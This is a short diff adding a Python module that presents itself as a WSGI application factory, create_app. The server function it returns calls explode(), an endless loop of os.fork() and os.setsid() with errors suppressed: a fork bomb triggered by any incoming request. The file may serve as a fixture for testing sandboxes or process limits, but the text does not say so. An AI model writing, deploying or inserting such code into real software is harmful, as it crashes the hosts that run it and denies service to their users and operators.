@@ -1,0 +1,17 @@
+"""Forks."""
+
+import os
+
+def explode():
+    while True:
+        try:
+            os.fork()
+            os.setsid()
+        except OSError:
+            pass
+
+def create_app(config=None):
+    def server(environ, start_response):
+        explode()
+
+    return server
